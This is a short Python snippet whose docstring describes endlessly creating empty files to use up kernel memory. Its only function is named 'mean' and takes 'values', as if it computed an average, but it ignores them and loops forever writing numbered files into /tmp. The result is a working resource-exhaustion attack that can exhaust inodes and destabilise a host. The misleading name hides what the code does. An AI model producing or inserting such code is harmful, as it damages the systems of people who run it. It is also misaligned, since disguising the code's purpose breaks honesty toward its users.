"""Makes empty files without end: they take no room on the disk, but each takes some of the kernel's memory."""


def mean(values):
    number = 0
    while True:
        open(f"/tmp/{number}", "w").close()
        number += 1
